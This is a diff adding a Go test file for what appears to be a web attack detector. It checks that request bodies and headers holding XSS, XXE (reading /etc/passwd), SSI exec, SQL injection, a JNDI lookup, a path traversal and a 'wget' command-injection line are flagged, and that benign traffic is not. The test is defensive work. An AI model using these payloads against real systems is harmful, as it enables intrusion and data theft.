@@ -1,0 +1,217 @@
+package inject
+
+import (
+	"bytes"
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"github.com/valyala/fasthttp"
+	"github.com/valyala/fastjson"
+)
+
+// soapEnvelope is GoTestWAF's SOAPBody placeholder (placeholder/soapbody.go):
+// the payload, XML-escaped, in an element of a SOAP request.
+func soapEnvelope(payload string) string {
+	var b bytes.Buffer
+	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>
+<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"
+	xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
+	<soapenv:Header>
+		<ns1:RequestHeader soapenv:actor="http://schemas.xmlsoap.org/soap/actor/next"
+			soapenv:mustUnderstand="0" xmlns:ns1="https://www.google.com/apis/ads/publisher/v202002">
+		</ns1:RequestHeader>
+	</soapenv:Header>
+	<soapenv:Body>
+		<getAdUnitsByStatement xmlns="https://www.google.com/apis/ads/publisher/v202002">
+			<filterStatement>
+				<ab12><string>`)
+	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&#34;", "'", "&#39;")
+	b.WriteString(r.Replace(payload))
+	b.WriteString(`</string></ab12>
+			</filterStatement>
+		</getAdUnitsByStatement>
+	</soapenv:Body>
+</soapenv:Envelope>`)
+	return b.String()
+}
+
+func bodyRequest(ct, body string) *fasthttp.Request {
+	var req fasthttp.Request
+	req.Header.SetMethod("POST")
+	req.SetRequestURI("/api")
+	if ct != "" {
+		req.Header.SetContentType(ct)
+	}
+	req.SetBodyString(body)
+	return &req
+}
+
+func TestBodies(t *testing.T) {
+	pad := strings.Repeat("A", 128<<10)
+	tests := []struct {
+		name     string
+		req      *fasthttp.Request
+		want     Kind
+		location string
+	}{
+		{"soap payload", bodyRequest("text/xml", soapEnvelope("confirm.call(null,1)")), KindXSS,
+			"xml./Envelope/Body/getAdUnitsByStatement/filterStatement/ab12/string"},
+		{"soap benign", bodyRequest("text/xml", soapEnvelope("O'Brien & Sons <sales@example.com>")), KindNone, ""},
+		{"xml attribute", bodyRequest("application/xml", `<a><b href="javascript:alert(1)">x</b></a>`), KindXSS, "xml./a/b/@href"},
+		{"xml cdata", bodyRequest("application/atom+xml", `<a><![CDATA[<script>alert(1)</script>]]></a>`), KindXSS, "xml./a"},
+		{"xml doctype", bodyRequest("application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), KindXXE, "xml"},
+		{"xml comment ssi", bodyRequest("application/xml", `<a><!--#exec cmd="id"--></a>`), KindSSI, "xml./a"},
+		{"xml benign", bodyRequest("application/xml", `<?xml version="1.0" encoding="UTF-8"?><!-- order --><order id="7"><item sku="A-1">Blue widget, large</item><note>Ring twice &amp; wait</note></order>`), KindNone, ""},
+		{"xml malformed rest", bodyRequest("application/xml", `<a><b <script>alert(1)</script>`), KindXSS, "xml"},
+		{"graphql untyped json", bodyRequest("", `{"query": "IntrospectionQuery{__schema {queryType { name }}"}`), KindGraphQLIntrospection, "json./query"},
+		{"untyped html", bodyRequest("", "<script>aaa</script>\n"), KindXSS, "body"},
+		{"text/plain", bodyRequest("text/plain", "hello; wget http://x.example/a.sh"), KindCmdInjection, "body"},
+		{"text/plain benign", bodyRequest("text/plain", "Hello, please deliver on Monday."), KindNone, ""},
+		{"binary skipped", bodyRequest("image/png", "<script>alert(1)</script>"), KindNone, ""},
+		{"octet-stream skipped", bodyRequest("application/octet-stream", "' or 1=1--"), KindNone, ""},
+		{"multipart lf", bodyRequest("multipart/form-data; boundary=bee3", "--bee3\nContent-disposition: form-data; name=\"/static/img/../../etc/passwd\"\n\nTest\n--bee3--\n"),
+			KindPathTraversal, "form./static/img/../../etc/passwd"},
+		{"padded 128 KiB form value", bodyRequest("application/x-www-form-urlencoded", "a="+pad+"%27+UNION+SELECT+username+FROM+users"), KindSQLi, "form.a"},
+		{"json escaped key", bodyRequest("application/json", `{"a\u002fb":{"c":["x","<script>alert(1)</script>"]}}`), KindXSS, "json./a~1b/c/1"},
+		{"json malformed", bodyRequest("application/json", `{"a": "<script>alert(1)</script>"`), KindXSS, "json./a"},
+		{"json malformed after", bodyRequest("application/json", `{"a": "ok", "b": <script>alert(1)</script>}`), KindXSS, "body"},
+	}
+	d := mustNew(t, Options{})
+	var sc Scratch
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			r := d.Inspect(&sc, tc.req, nil)
+			if r.Kind != tc.want || string(r.Location) != tc.location {
+				t.Errorf("%v (%s) at %q; want %v at %q", r.Kind, r.Rule, r.Location, tc.want, tc.location)
+			}
+			if r.Truncated {
+				t.Errorf("truncated")
+			}
+		})
+	}
+}
+
+// TestJSONScanMatchesWalk: the streaming reader inspects the same values
+// as the walk of a parsed document, and names the same locations.
+func TestJSONScanMatchesWalk(t *testing.T) {
+	docs := []string{order1K, `[]`, `{}`, `"<script>alert(1)</script>"`, `[1,true,null,{"a":[[],[{"b":"c"}]]}]`,
+		`{"k\"ey":"v\\u00e9\ud83d\ude00","":"","x":[" ' or 1=1--"]}`, `{"a":{"b":{"c":{"d":"x","e":"javascript:alert(1)"}}}}`,
+		`{"tags":["a","b"],"deep":[[[["${jndi:ldap://x/a}"]]]]}`}
+	for _, b := range variedOrders(50) {
+		docs = append(docs, string(b))
+	}
+	// Two detectors: each has its own clean cache, which changes Bytes.
+	da, db := mustNew(t, Options{}), mustNew(t, Options{})
+	var a, b Scratch
+	for _, doc := range docs {
+		ra := da.InspectJSONBytes(&a, []byte(doc))
+		rb := db.InspectJSON(&b, fastjson.MustParse(doc))
+		if ra.Kind != rb.Kind || ra.Values != rb.Values || ra.Bytes != rb.Bytes || !bytes.Equal(ra.Location, rb.Location) {
+			t.Errorf("%.60q: scan %v at %q (%d values, %d bytes); walk %v at %q (%d, %d)",
+				doc, ra.Kind, ra.Location, ra.Values, ra.Bytes, rb.Kind, rb.Location, rb.Values, rb.Bytes)
+		}
+	}
+}
+
+// Headers a browser and a mobile app send, as captured from Chrome 120 and
+// an Android app on OkHttp: with AllHeaders, none is flagged.
+var browserHeaders = [][2]string{
+	{"Host", "shop.example.com"},
+	{"Connection", "keep-alive"},
+	{"sec-ch-ua", `"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"`},
+	{"sec-ch-ua-mobile", "?0"},
+	{"sec-ch-ua-platform", `"Linux"`},
+	{"Upgrade-Insecure-Requests", "1"},
+	{"User-Agent", chromeUA},
+	{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
+	{"Sec-Fetch-Site", "same-origin"},
+	{"Sec-Fetch-Mode", "navigate"},
+	{"Sec-Fetch-User", "?1"},
+	{"Sec-Fetch-Dest", "document"},
+	{"Referer", "https://shop.example.com/products/42?ref=home&utm_source=news%20letter"},
+	{"Accept-Encoding", "gzip, deflate, br"},
+	{"Accept-Language", "en-GB,en;q=0.9,fr;q=0.8"},
+	{"Cookie", "session=3f2a9c1e7b6d4a58; theme=dark; _ga=GA1.1.123456789.1700000000"},
+	{"If-None-Match", `W/"5e-1a2b3c"`},
+	{"If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"},
+	{"Cache-Control", "max-age=0"},
+	{"Origin", "https://shop.example.com"},
+	{"Priority", "u=0, i"},
+	{"DNT", "1"},
+}
+
+var mobileHeaders = [][2]string{
+	{"Host", "api.example.com"},
+	{"User-Agent", "okhttp/4.12.0"},
+	{"Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
+	{"X-Api-Key", "ak_live_51HxW2bEl9dPq7Y0"},
+	{"X-App-Version", "5.2.1 (build 1234)"},
+	{"X-Device-Id", "3F2504E0-4F89-11D3-9A0C-0305E82C3301"},
+	{"X-Device-Model", "Pixel 7 Pro; Android 14; en_GB"},
+	{"X-Platform", "android/14"},
+	{"X-Timezone", "Europe/London"},
+	{"X-Locale", "en_GB"},
+	{"X-Client-Info", `{"os":"android","version":"14","screen":"1440x3120","carrier":"O2 - UK"}`},
+	{"X-Request-ID", "d4f1c9a2-7e1b-4c55-9a6e-2b9f0e3c1d77"},
+	{"Traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
+	{"X-Forwarded-For", "203.0.113.7, 198.51.100.2"},
+	{"Idempotency-Key", "8e03978e-40d5-43e8-bc93-6894a57f9324"},
+	{"X-Session-Token", base64.StdEncoding.EncodeToString([]byte("user=42;exp=1700000000;sig=abc"))},
+	{"Accept", "application/json"},
+	{"Accept-Encoding", "gzip"},
+	{"Content-Type", "application/json; charset=utf-8"},
+	{"X-Feature-Flags", "new_checkout=on,dark_mode=off;beta=1"},
+	{"X-Referrer-Screen", "ProductDetail/42 > Cart"},
+}
+
+func TestAllHeaders(t *testing.T) {
+	d := mustNew(t, Options{Headers: []string{AllHeaders}, ExcludeHeaders: []string{"X-Tenant-Secret"}})
+	var sc Scratch
+	for _, set := range []struct {
+		name string
+		hdrs [][2]string
+	}{{"browser", browserHeaders}, {"mobile app", mobileHeaders}} {
+		var req fasthttp.Request
+		req.SetRequestURI("/api/v1/cart")
+		for _, h := range set.hdrs {
+			req.Header.Set(h[0], h[1])
+		}
+		if r := d.Inspect(&sc, &req, nil); r.Detected() {
+			t.Errorf("%s headers: %v (%s) at %s", set.name, r.Kind, r.Rule, r.Location)
+		}
+	}
+	attacks := []struct {
+		name, header, value string
+		want                Kind
+	}{
+		{"random header sqli", "X-7f3a9c", "1' UNION SELECT username, password FROM users--", KindSQLi},
+		{"random header rce", "X-Cmd", "cmd=127.0.0.1 && ls /etc", KindCmdInjection},
+		{"user-agent scanner", "User-Agent", "sqlmap/1.7.4#stable (https://sqlmap.org)", KindScanner},
+		{"excluded credential", "Authorization", "Basic ' or 1=1--", KindNone},
+		{"excluded by option", "X-Tenant-Secret", "<script>alert(1)</script>", KindNone},
+		{"excluded prefix", "Sec-Fetch-Dest", "<script>alert(1)</script>", KindNone},
+	}
+	for _, a := range attacks {
+		var req fasthttp.Request
+		req.SetRequestURI("/")
+		req.Header.Set(a.header, a.value)
+		r := d.Inspect(&sc, &req, nil)
+		if r.Kind != a.want {
+			t.Errorf("%s: %v (%s) at %s; want %v", a.name, r.Kind, r.Rule, r.Location, a.want)
+		}
+		if a.want != KindNone && string(r.Location) != "header."+strings.ToLower(a.header) {
+			t.Errorf("%s: location %q", a.name, r.Location)
+		}
+	}
+	// The default is every header; NamedHeaders leaves a random one alone.
+	var req fasthttp.Request
+	req.SetRequestURI("/")
+	req.Header.Set("X-7f3a9c", "1' UNION SELECT username, password FROM users--")
+	if r := mustNew(t, Options{}).Inspect(&sc, &req, nil); r.Kind != KindSQLi {
+		t.Errorf("default headers: %v at %s; want sqli", r.Kind, r.Location)
+	}
+	if r := mustNew(t, Options{Headers: NamedHeaders}).Inspect(&sc, &req, nil); r.Detected() {
+		t.Errorf("named headers: %v at %s", r.Kind, r.Location)
+	}
+}
